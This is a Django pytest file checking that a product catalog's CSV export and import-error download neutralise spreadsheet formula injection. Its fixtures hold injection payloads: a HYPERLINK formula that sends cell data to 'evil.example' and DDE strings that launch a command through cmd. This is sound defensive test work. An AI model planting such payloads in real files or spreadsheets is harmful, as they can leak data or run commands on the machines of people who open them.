"""CSV formula injection: the catalog export and the import error file never hand a spreadsheet a formula
(cells starting with =, +, -, @ used to come back unchanged), and the export still re-imports unchanged."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from listings.models import ImportJob, Product
from tests.listings.factories import ProductFactory

pytestmark = pytest.mark.django_db

FORMULA_NAMES = {
    "F-EQ": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "F-PLUS": "+1+1",
    "F-MINUS": "-2+3+cmd|' /C calc'!A0",
    "F-AT": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _download(client, url_name: str, *args) -> list[list[str]]:
    response = client.get(reverse(url_name, args=args))
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_export_neutralises_formulas_and_reimports_them_unchanged(operator_client, django_capture_on_commit_callbacks):
    # given: products whose name and brand a spreadsheet would run
    for sku, name in FORMULA_NAMES.items():
        ProductFactory(sku=sku, name=name, brand="=1+1", price=Decimal("5.00"), quantity=2)
    # when
    rows = _download(operator_client, "listings:export")
    # then: each such cell starts with a quote, so it is text in a spreadsheet
    by_sku = {row[0]: row for row in rows[1:]}
    assert {sku: row[1] for sku, row in by_sku.items()} == {sku: "'" + name for sku, name in FORMULA_NAMES.items()}
    assert {row[2] for row in by_sku.values()} == {"'=1+1"}
    # and the file imports back to the same values
    body = b"".join(operator_client.get(reverse("listings:export")).streaming_content)
    Product.objects.filter(sku__in=FORMULA_NAMES).update(name="changed", brand="changed")
    with django_capture_on_commit_callbacks(execute=True):
        operator_client.post(reverse("listings:import"), {"file": SimpleUploadedFile("catalog.csv", body)})
    assert ImportJob.objects.get().error_count == 0
    assert dict(Product.objects.values_list("sku", "name")) == FORMULA_NAMES
    assert set(Product.objects.values_list("brand", flat=True)) == {"=1+1"}


def test_import_error_file_neutralises_formulas(operator_client, django_capture_on_commit_callbacks):
    # given: a row whose SKU is a formula and whose price is wrong
    content = b"sku,name,price,quantity\n=cmd|' /C calc'!A0,Alpha,1.001,1\n@SUM(1),Beta,x,1\n"
    with django_capture_on_commit_callbacks(execute=True):
        operator_client.post(reverse("listings:import"), {"file": SimpleUploadedFile("catalog.csv", content)})
    job = ImportJob.objects.get()
    # when
    rows = _download(operator_client, "listings:import_errors_csv", job.pk)
    # then
    assert rows == [
        ["row", "sku", "field", "message"],
        ["2", "'=cmd|' /C calc'!A0", "price", "Price can have at most two decimals (e.g. 9.99), got 1.001."],
        ["3", "'@SUM(1)", "price", "Price must be a number, got 'x'."],
    ]
